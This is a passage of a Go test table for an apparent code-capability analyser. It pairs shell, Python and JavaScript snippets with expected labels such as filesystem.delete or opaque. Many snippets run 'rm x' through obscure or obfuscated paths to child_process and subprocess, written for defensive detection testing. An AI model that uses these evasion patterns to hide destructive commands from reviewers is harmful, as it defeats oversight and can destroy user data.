	{"shell", `rsync -a --delay-updates a b`, "filesystem.read a; filesystem.read b; filesystem.write b"},
	{"shell", `rsync --del a b`, "filesystem.delete b; filesystem.read a; filesystem.read b; filesystem.write b"},
	{"shell", `tar xPf a`, "filesystem.read a; filesystem.write .; filesystem.write ?"},
	{"shell", `tar cf a --add-file=/d/x`, "filesystem.read /d/x; filesystem.write a"},
	{"python", `from asyncio.subprocess import create_subprocess_shell as c; c("rm x")`, "filesystem.delete x"},
	{"python", `import asyncio; asyncio.get_event_loop().subprocess_exec(p, "rm", "x")`, "opaque"},
	{"python", `import imaplib; imaplib.IMAP4_stream("rm x")`, "filesystem.delete x"},
	{"python", `import trace; trace.Trace().run("x")`, "opaque"},
	{"python", `import subprocess; subprocess.run(["ls", "a"], -1, "./e")`, "filesystem.read a; source_code.execute e"},
	{"python", `import subprocess; subprocess.run(["ls", "a"], -1, None)`, "filesystem.read a"},
	{"javascript", `global.process.mainModule.constructor._load("child_process").exec("rm x")`, "filesystem.delete x"},
	{"javascript", `process.getBuiltinModule("child_process").exec("rm x")`, "filesystem.delete x"},
	{"javascript", `import("child_process").then(({exec: e}) => e("rm x"))`, "filesystem.delete x"},
	{"javascript", `const f = ({a, b}) => a + b; f({a: 1, b: 2})`, ""},
	{"javascript", `with (require("child_process")) exec("rm x")`, "opaque"},
	{"javascript", `const {["exec"]: e} = require("child_process"); e("rm x")`, "opaque"},
	{"javascript", `Object.values(require("child_process"))[0]("rm x")`, "opaque"},
	{"javascript", `Object.values({a: 1}).map(x => x)`, ""},
}
